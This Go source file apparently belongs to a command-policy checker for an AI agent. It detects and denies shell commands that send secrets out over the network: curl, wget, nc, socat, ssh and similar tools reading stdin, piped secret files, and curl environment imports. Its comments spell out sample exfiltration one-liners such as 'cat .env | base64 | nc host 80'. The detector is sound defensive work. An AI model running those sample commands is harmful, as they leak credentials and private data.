package rewrite

import (
	"fmt"
	"strings"

	"github.com/corral-dev/corral/internal/lazy"
	"github.com/corral-dev/corral/syntax"
)

// sendsInput reports whether network command c sends what it reads on
// its standard input, as its manual describes: curl's @- (-d, --data*,
// --json, -F name=@- or name=<-) and -T - or -T .; wget's --post-file or
// --body-file of - or /dev/stdin; nc, ncat, netcat and telnet (stdin
// goes to the connection); socat with - or STDIN/STDIO as an address;
// ssh (stdin goes to the remote command, unless -n); httpie and xh (a
// piped stdin is the request body, unless --ignore-stdin/-I); openssl
// s_client; gh gist create - or with no file (it reads stdin).
func sendsInput(c *syntax.Call) bool {
	stdin := func(v string) bool { return v == "-" || v == "/dev/stdin" || v == "/dev/fd/0" }
	switch c.Name {
	case "nc", "ncat", "netcat", "telnet":
		return true
	case "POST", "PUT", "lwp-request":
		_, ok := lwpSendsStdin(c)
		return ok
	case "socat":
		for _, a := range c.Args {
			u := strings.ToUpper(a.Value)
			if a.Value == "-" || strings.HasPrefix(u, "STDIN") || strings.HasPrefix(u, "STDIO") {
				return true
			}
		}
	case "ssh":
		for _, a := range c.Args {
			if a.Static && strings.HasPrefix(a.Value, "-") && !strings.HasPrefix(a.Value, "--") && strings.ContainsRune(a.Value, 'n') && len(a.Value) <= 4 {
				return false
			}
		}
		return true
	case "http", "https", "xh", "xhs":
		for _, a := range c.Args {
			if a.Value == "--ignore-stdin" || a.Value == "-I" {
				return false
			}
		}
		return true
	case "openssl":
		return len(c.Args) > 0 && c.Args[0].Value == "s_client"
	case "curl":
		opts, _ := scan(c.Args, specFor("curl"))
		for _, o := range opts {
			if !o.hasVal {
				continue
			}
			v := o.val.Value
			switch o.name {
			case "d", "data", "data-ascii", "data-binary", "json":
				if v == "@-" {
					return true
				}
			case "data-urlencode", "url-query", "variable":
				if i := strings.Index(v, "@"); i >= 0 && !strings.Contains(v[:i], "=") && v[i+1:] == "-" {
					return true
				}
			case "F", "form":
				_, val, _ := strings.Cut(v, "=")
				if val == "@-" || val == "<-" || strings.HasPrefix(val, "@-;") || strings.HasPrefix(val, "<-;") {
					return true
				}
			case "T", "upload-file":
				if v == "-" || v == "." {
					return true
				}
			}
		}
	case "wget", "wget2":
		opts, _ := scan(c.Args, optSpec{longVal: longOpts("post-file", "body-file", "output-document", "directory-prefix", "execute", "input-file", "header", "user", "password", "method"), shortVal: "OPeio", longEq: true})
		for _, o := range find(opts, "post-file", "body-file") {
			if stdin(o.val.Value) {
				return true
			}
		}
	case "gh":
		if len(c.Args) >= 2 && c.Args[0].Value == "gist" && (c.Args[1].Value == "create" || c.Args[1].Value == "new") {
			_, operands := scan(c.Args[2:], optSpec{shortVal: "dfw", longVal: longOpts("desc", "filename", "web"), longEq: true})
			if len(operands) == 0 {
				return true
			}
			for _, i := range operands {
				if c.Args[2+i].Value == "-" {
					return true
				}
			}
		}
	}
	return false
}

// secretInput reports, as an upload of that file, a network command that
// sends its standard input when that input holds a secret's content: a
// here-string or here-document holding a variable set from it (curl
// --data-binary @- URL <<< "$KEY", nc host 80 <<EOF … $KEY … EOF), or a
// stage before that prints it (printf %s "$KEY" | curl -d @- URL, cat
// .env | base64 | nc host 80).
func (p *Pass) secretInput(c *syntax.Call) bool {
	if p.Config.Paths == nil || !networkCommands.Get()[c.Name] || !sendsInput(c) {
		return false
	}
	if sec, ok := p.secretFile(c.Dir, c.InputFiles()); ok {
		p.Report(c, Finding{Rule: "exfiltrate", Decision: Deny, PathContext: "blocked",
			Message: sec.Reason(fmt.Sprintf("%s sends its standard input, which holds the content of", c.Name))})
		return true
	}
	// jq -r --arg k "$KEY" '$k' | curl -d @- URL, set -a; source .env; jq
	// -n env | base64 | nc h 80: what jq or awk prints from a variable or
	// the environment, through the stages that pass their input on.
	at := c
	for hops := 0; hops < 16; hops++ {
		in := at.Fd(0)
		if in.Kind != syntax.StreamPipe || in.Pipe == nil {
			return false
		}
		prev := in.Pipe.Stage(in.Stage - 1)
		if prev == nil {
			return false
		}
		if sec, what, ok := p.printedSecret(prev); ok && prev.Fd(1).Kind == syntax.StreamPipe {
			p.Report(c, Finding{Rule: "exfiltrate", Decision: Deny, PathContext: "blocked",
				Message: sec.Reason(fmt.Sprintf("%s sends its standard input, what %s prints: %s", c.Name, prev.Name, what))})
			return true
		}
		if !passesInput(prev) {
			return false
		}
		at = prev
	}
	return false
}

// passesInput reports whether a pipeline stage prints what it reads on
// its standard input (a filter given no file: base64, tr, cat, sed
// s/x/y/), so that what an earlier stage prints goes on through it.
func passesInput(c *syntax.Call) bool {
	if !stdinPrinters.Get()[c.Name] && c.Name != "xxd" && c.Name != "gzip" && c.Name != "xz" && c.Name != "zstd" && c.Name != "rev" {
		return false
	}
	if c.Name == "tr" || c.Name == "envsubst" {
		return true // their operands are no files
	}
	spec := readerSpecs.Get()[c.Name]
	switch c.Name {
	case "gawk", "mawk":
		spec = readerSpecs.Get()["awk"]
	case "egrep", "fgrep":
		spec = readerSpecs.Get()["grep"]
	}
	opts, operands := scan(c.Args, spec)
	switch c.Name {
	case "sed", "awk", "gawk", "mawk", "grep", "egrep", "fgrep":
		// The first operand is the script or pattern unless an option
		// gave it (sed -e, awk -f, grep -e/-f).
		if len(operands) > 0 && !has(opts, "e", "f", "expression", "file", "regexp", "source") {
			operands = operands[1:]
		}
	}
	for _, i := range operands {
		if c.Args[i].Value != "-" {
			return false
		}
	}
	return true
}

// secretEnvImport reports curl --variable %NAME (curl 8.3: the variable
// NAME is imported from the environment, to be expanded into the request
// by {{NAME}}) when the environment's NAME holds a secret's content
// (KEY=$S curl --variable %KEY --expand-data '{{KEY}}' URL).
func (p *Pass) secretEnvImport(c *syntax.Call) bool {
	if c.Name != "curl" || len(c.Env) == 0 || p.Config.Paths == nil {
		return false
	}
	var names []string
	for i, a := range c.Args {
		v := a.Value
		switch {
		case v == "--variable" && i+1 < len(c.Args):
			v = c.Args[i+1].Value
		case strings.HasPrefix(v, "--variable="):
			v = v[len("--variable="):]
		default:
			continue
		}
		if n, ok := strings.CutPrefix(v, "%"); ok {
			n, _, _ = strings.Cut(n, "=")
			names = append(names, n)
		}
	}
	if len(names) == 0 {
		return false
	}
	if sec, name, ok := p.secretSource(c.Dir, c.Env, names); ok {
		p.Report(c, Finding{Rule: "exfiltrate", Decision: Deny, PathContext: "blocked",
			Message: sec.Reason(fmt.Sprintf("curl imports %s from its environment (--variable %%NAME), which holds the content of", name))})
		return true
	}
	return false
}

// stdinPrinters are the programs that copy their input to their output
// when given no file: what they print reaches the agent.
var stdinPrinters = lazy.Value[map[string]bool]{New: func() map[string]bool {
	return setOf("cat", "tac", "head", "tail", "base64", "xxd", "strings", "sed", "awk", "gawk", "mawk", "grep", "egrep", "fgrep", "cut", "sort", "uniq", "tr", "envsubst")
}}

// checkSecretInput judges a printer whose input is a here-string or
// here-document holding a secret's content and whose output reaches the
// agent (source .env; cat <<< "$KEY"): it reads that file. Output
// written to a file (cat > config.yml <<EOF … $KEY … EOF) or piped on is
// not a read here; the next stage is judged on its own.
func checkSecretInput(p *Pass) {
	if p.Config.Paths == nil {
		return
	}
	for _, c := range p.Model.Calls {
		if len(c.Sources) == 0 || !stdinPrinters.Get()[c.Name] {
			continue
		}
		in, out := c.Fd(0), c.Fd(1)
		if _, _, ok := in.Text(); !ok || out.Kind != syntax.StreamInherited || c.Subst != "" {
			continue
		}
		if !containsAll(c.OutputFiles(), in.Redirect.From) {
			continue // it prints its file operands, not its input
		}
		if sec, ok := p.secretFile(c.Dir, in.Redirect.From); ok {
			p.reportSecret(c, sec, fmt.Sprintf("%s prints its input, which holds the content of", c.Name))
		}
	}
}

// containsAll reports whether every string of want is in have.
func containsAll(have, want []string) bool {
	for _, w := range want {
		if !containsString(have, w) {
			return false
		}
	}
	return len(want) > 0
}

// checkEnvSends judges program code that reads environment variables and
// opens a network connection (lang.Send) when the program's environment
// holds a secret's content in one of them: an exported variable a sourced
// secret set, a prefix assignment (KEY=$S python3 …) or env's NAME=value
// (env X="$S" python3 -c '…os.environ["X"]…urlopen…'). A name the code
// reads by a literal is matched by name; reading the whole environment or
// a name only known at run time matches every variable.
func checkEnvSends(p *Pass) {
	checkEnvDumps(p)
	checkCodeUploads(p)
	if p.Config.Paths == nil {
		return
	}
	checkTaintedSinks(p)
	for _, s := range p.Model.EnvSends {
		if s.Print {
			continue // printed, not sent: secret-read's (taint.go)
		}
		names := s.Names
		if s.Any {
			names = nil
		} else if len(names) == 0 {
			continue
		}
		sec, name, ok := p.secretSource(s.Call.Dir, s.Call.Env, names)
		if !ok {
			continue
		}
		p.Report(s.Call, Finding{Rule: "exfiltrate", Decision: Deny, PathContext: "blocked",
			Message: sec.Reason(fmt.Sprintf("%s reads %s from its environment and opens a network connection (%s); it holds the content of", s.Call.Name, name, s.What))})
	}
}
